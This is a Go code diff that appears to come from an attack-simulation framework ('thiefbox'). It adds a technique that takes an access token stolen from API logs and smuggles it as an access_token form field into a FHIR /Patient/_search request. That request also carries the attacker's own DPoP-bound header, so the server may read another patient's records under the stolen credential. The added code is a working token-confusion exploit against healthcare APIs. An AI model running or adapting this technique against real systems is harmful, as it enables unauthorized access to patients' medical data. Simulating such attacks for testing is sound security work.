@@ -2,6 +2,7 @@ package attacker
 
 import (
 	"context"
+	"net/url"
 
 	"thiefbox/sim/event"
 	"thiefbox/sim/fapi"
@@ -30,6 +31,36 @@ var _ = register("T-14", Technique{
 		r := withToken(get(ctx, l.URL), own.TokenType, own.AccessToken, proof)
 		r.Header.Add("Authorization", "Bearer "+l.token)
 		_, err = send(g, r)
+		return err
+	},
+})
+
+var _ = register("T-14/form", Technique{
+	Variant: "in-the-form",
+	Title:   "A second credential in the form of a search",
+	Story: "As with two credentials in one request, but the second stands where RFC 6750 once let it: in the form of a search. The API that looks " +
+		"into the form for parameters finds a token there, and believes the last one it has seen.",
+	Reads:    []string{"RFC 6750 s2, s2.2", "RFC 9449 s7.1"},
+	Evidence: "A form with access_token in it, beside a header that names another token.",
+	Needs:    []event.Vantage{event.APILog},
+	Has:      []event.Asset{event.OwnClient},
+	Run: func(ctx context.Context, g Ground) error {
+		l, err := stolenRequest(g, event.APILog, "/Patient/")
+		if err != nil {
+			return err
+		}
+		a, own, err := ownToken(ctx, g)
+		if err != nil {
+			return err
+		}
+		search := g.Target().FHIRBase + "/Patient/_search"
+		proof, err := a.proof("POST", search, own.AccessToken).Sign(a.key)
+		if err != nil {
+			return err
+		}
+		// The one thing too many is access_token.
+		r := post(ctx, search, url.Values{"_id": {otherThan(g, l.URL)}, "access_token": {l.token}})
+		_, err = send(g, withToken(r, own.TokenType, own.AccessToken, proof))
 		return err
 	},
 })
